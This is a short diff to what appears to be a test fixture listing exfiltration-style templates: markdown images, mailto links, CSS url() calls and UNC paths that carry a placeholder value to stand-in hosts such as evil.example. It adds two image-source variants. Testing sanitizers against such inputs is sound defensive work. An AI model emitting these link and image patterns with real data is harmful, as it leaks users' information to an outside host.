@@ -55,6 +55,8 @@ STAYS = {
     "what a mail says, with spaces": '<a href="mailto:eve@evil.example?body=as said {}">',
     "what a mail says, with entities": "<a href='mailto:eve@evil.example&#63;body={}'>",
     "a host after slashes": "url('//{}.evil.example/x')",
+    "an IPv6 address": "![x](a.png){{: src=//[2001:db8::1]/{}}}",
+    "a user before a host": "![x](a.png){{: src=//!@evil/{}}}",
     "a share of a network": "\\\\evil.example\\a{}",
     "quotes in an address": 'https://evil.example/?q="{}"',
     "an apostrophe in an address": "https://evil.example/?q='{}'",
